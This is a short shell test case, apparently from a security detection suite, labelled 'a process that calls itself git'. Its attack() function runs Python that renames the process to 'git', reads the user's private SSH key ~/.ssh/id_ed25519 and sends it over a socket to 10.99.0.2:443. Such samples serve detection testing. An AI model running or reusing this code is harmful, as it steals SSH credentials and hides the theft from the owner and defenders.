# SPDX-License-Identifier: Apache-2.0
TITLE="a process that calls itself git"
ROW="P09 E28"
CLASS=ssh-key SECRET=.ssh/id_ed25519
attack() {
	python3 - <<-'END'
	import ctypes, os, socket
	ctypes.CDLL(None).prctl(15, b'git', 0, 0, 0)
	data = open(os.path.expanduser('~/.ssh/id_ed25519'), 'rb').read()
	socket.create_connection(('10.99.0.2', 443), 5).sendall(data)
	END
}
